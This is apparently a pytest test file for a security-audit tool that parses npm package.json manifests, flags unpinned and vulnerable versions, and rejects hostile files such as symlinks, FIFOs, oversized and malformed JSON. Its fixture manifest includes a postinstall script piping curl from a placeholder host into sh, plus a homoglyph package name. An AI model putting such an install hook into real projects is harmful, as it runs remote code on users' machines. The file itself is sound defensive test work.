"""`package.json` as a dependency source of its own (no lockfile beside it), including hostile input."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from secaudit.tools.advisories import AdvisoryDB
from secaudit.tools.deps import audit_dependencies, discover_manifests
from secaudit.tools.store import Store

NPM_OSV = {
    "id": "GHSA-test-test-test",
    "modified": "2024-01-01T00:00:00Z",
    "affected": [
        {
            "package": {"ecosystem": "npm", "name": "lodash"},
            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "4.17.21"}]}],
        }
    ],
}

MANIFEST = """{
  "name": "app",
  "version": "1.0.0",
  "dependencies": {
    "lodash": "4.17.20",
    "express": "^4.18.2",
    "debug": "~2.6",
    "ms": ">=2.0.0 <3",
    "left-pad": "=1.3.0",
    "chalk": "v5.3.0",
    "any": "*",
    "tagged": "latest",
    "tiny": "1.2",
    "aliased": "npm:lodash@4.17.15",
    "fromgit": "git+https://example.invalid/x.git#abc",
    "shorthand": "user/repo#main",
    "local": "file:../lib",
    "home": "~/lib",
    "r\u0435quest": "2.88.0"
  },
  "devDependencies": {
    "lodash": "4.17.21",
    "jest": "^29"
  },
  "optionalDependencies": {"fsevents": "2.3.3"},
  "peerDependencies": {"react": ">=17"},
  "scripts": {"postinstall": "curl https://example.invalid | sh"}
}
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    return root


@pytest.fixture
def db(tmp_path: Path) -> Iterator[AdvisoryDB]:
    osv = tmp_path / "osv"
    osv.mkdir()
    (osv / "b.json").write_text(json.dumps(NPM_OSV))
    store = Store(tmp_path / "store.db")
    database = AdvisoryDB(store)
    database.import_path(osv)
    yield database
    store.close()


def notes_text(result: object) -> str:
    return "\n".join(f"{n.path}: {n.message}" for n in [*result.notes, *result.skipped])  # type: ignore[attr-defined]


def test_declared_ranges_exact_pins_lines_and_groups(repo: Path, db: AdvisoryDB) -> None:
    (repo / "package.json").write_text(MANIFEST, encoding="utf-8")
    result = audit_dependencies(repo, None, db)
    got = {(d.name, d.groups): d for d in result.dependencies if d.version != "4.17.15"}
    versions = sorted((d.name, d.groups, d.version or "-") for d in result.dependencies)
    assert versions == sorted([
        ("lodash", (), "4.17.20"), ("express", (), "-"), ("debug", (), "-"), ("ms", (), "-"),
        ("left-pad", (), "1.3.0"), ("chalk", (), "5.3.0"), ("any", (), "-"), ("tagged", (), "-"),
        ("tiny", (), "-"), ("lodash", (), "4.17.15"), ("fromgit", (), "-"), ("shorthand", (), "-"),
        ("local", (), "-"), ("home", (), "-"), ("r\u0435quest", (), "2.88.0"),
        ("lodash", ("dev",), "4.17.21"), ("jest", ("dev",), "-"), ("fsevents", ("optional",), "2.3.3"),
        ("react", ("peer",), "-"),
    ])  # fmt: skip
    # The alias resolves to the real package, on its own line.
    alias = next(d for d in result.dependencies if d.version == "4.17.15")
    assert alias.name == "lodash" and alias.line == 14 and "alias 'aliased'" in alias.notes[0]
    lodash = got[("lodash", ())]
    assert lodash.line == 5 and lodash.direct is True and lodash.manifest == "package.json"
    assert lodash.source == "package.json" and lodash.specifier == "4.17.20"
    assert got[("lodash", ("dev",))].line == 22  # found inside its own section, not the first "lodash"
    assert got[("express", ())].specifier == "^4.18.2" and got[("express", ())].line == 6
    assert "only an exact version" in got[("debug", ())].notes[0]  # "~2.6" is a range, not a path
    assert "not a registry release" in got[("fromgit", ())].notes[0]
    assert "not a registry release" in got[("shorthand", ())].notes[0]
    assert "not a registry release" in got[("home", ())].notes[0]
    assert "not ASCII" in got[("r\u0435quest", ())].notes[0]
    # Matching: only the exact pins are checked; the vulnerable ones are found.
    assert sorted(h.dependency.version or "" for h in result.vulnerable) == ["4.17.15", "4.17.20"]
    unchecked = {d.name for d in result.unchecked}
    assert {"express", "debug", "ms", "any", "tagged", "tiny", "jest", "react", "fromgit"} <= unchecked
    assert any("not pinned" in c for c in result.coverage)


def test_unpinned_is_an_info_finding_with_file_and_line(repo: Path, db: AdvisoryDB) -> None:
    from secaudit.tools.findings.model import Severity
    from secaudit.tools.scanners.deps import to_scan_result

    (repo / "package.json").write_text(MANIFEST, encoding="utf-8")
    scan = to_scan_result(audit_dependencies(repo, None, db))
    express = next(f for f in scan.findings if f.rule_id == "deps.unpinned" and "express" in f.title)
    assert express.severity == Severity.INFO and express.path == "package.json" and express.start_line == 6
    assert "^4.18.2" in express.title
    assert not any(f.rule_id == "deps.unpinned" and "left-pad" in f.title for f in scan.findings)


def test_lockfile_beside_it_supersedes_the_ranges(repo: Path, db: AdvisoryDB) -> None:
    (repo / "package.json").write_text(json.dumps({"dependencies": {"lodash": "^4.17.0"}}, indent=2))
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"dependencies": {"lodash": "^4.17.0"}},
            "node_modules/lodash": {"version": "4.17.20"},
        },
    }
    (repo / "package-lock.json").write_text(json.dumps(lock, indent=2))
    (repo / "web").mkdir()
    (repo / "web" / "package.json").write_text(json.dumps({"dependencies": {"lodash": "^4.0.0"}}))
    result = audit_dependencies(repo, None, db)
    assert discover_manifests(repo) == ["package-lock.json", "package.json", "web/package.json"]
    by_manifest = sorted((d.manifest, d.version) for d in result.dependencies)
    assert by_manifest == [("package-lock.json", "4.17.20"), ("web/package.json", None)]
    assert "package.json: versions taken from the lockfile beside it" in notes_text(result)


def test_malformed_wrong_shape_and_bad_values(repo: Path, db: AdvisoryDB) -> None:
    (repo / "package.json").write_text('{"dependencies": {"lodash": "4.17.20",')
    (repo / "a").mkdir()
    (repo / "a" / "package.json").write_text("[1, 2]")
    (repo / "b").mkdir()
    (repo / "b" / "package.json").write_text(
        json.dumps({"dependencies": {"x": 1, "lodash": "4.17.20"}, "devDependencies": ["nope"]})
    )
    (repo / "c").mkdir()
    (repo / "c" / "package.json").write_text("[" * 100_000 + "]" * 100_000)
    result = audit_dependencies(repo, None, db)
    skipped = {s.path: s.message for s in result.skipped}
    assert "not valid JSON" in skipped["package.json"]
    assert "top level is not an object" in skipped["a/package.json"]
    assert "c/package.json" in skipped
    text = notes_text(result)
    assert "dependencies.x: the version is not a string" in text
    assert "'devDependencies' is not an object" in text
    assert [h.dependency.manifest for h in result.vulnerable] == ["b/package.json"]  # the rest goes on


def test_huge_file_is_refused_without_reading_it(repo: Path, db: AdvisoryDB) -> None:
    with open(repo / "package.json", "wb") as fh:
        fh.truncate(21 * 1024 * 1024)  # sparse: refused by size before any read
    (repo / "ok").mkdir()
    (repo / "ok" / "package.json").write_text(json.dumps({"dependencies": {"lodash": "4.17.20"}}))
    result = audit_dependencies(repo, None, db)
    assert any(s.path == "package.json" and "larger than" in s.message for s in result.skipped)
    assert [h.dependency.manifest for h in result.vulnerable] == ["ok/package.json"]


def test_symlink_outside_the_root_is_never_opened(repo: Path, db: AdvisoryDB) -> None:
    outside = repo.parent / "outside.json"
    outside.write_text(json.dumps({"dependencies": {"lodash": "4.17.20"}}))
    (repo / "package.json").symlink_to(outside)
    result = audit_dependencies(repo, None, db)
    assert not result.dependencies
    assert any("symbolic link leading outside" in s.message for s in result.skipped)


@pytest.mark.timeout(20)
def test_fifo_named_package_json_does_not_block(repo: Path, db: AdvisoryDB) -> None:
    os.mkfifo(repo / "package.json")
    (repo / "ok").mkdir()
    (repo / "ok" / "package.json").write_text(json.dumps({"dependencies": {"lodash": "4.17.20"}}))
    result = audit_dependencies(repo, None, db)
    assert any(s.path == "package.json" and "FIFO" in s.message for s in result.skipped)
    assert [h.dependency.manifest for h in result.vulnerable] == ["ok/package.json"]


def test_a_broken_lockfile_beside_it_leaves_the_ranges_reported(repo: Path, db: AdvisoryDB) -> None:
    (repo / "package.json").write_text(json.dumps({"dependencies": {"lodash": "^4.17.0", "ms": "2.1.3"}}))
    (repo / "package-lock.json").write_text("{broken")
    result = audit_dependencies(repo, None, db)
    assert any(s.path == "package-lock.json" and "not valid JSON" in s.message for s in result.skipped)
    assert sorted((d.name, d.version or "-") for d in result.dependencies) == [
        ("lodash", "-"),
        ("ms", "2.1.3"),
    ]
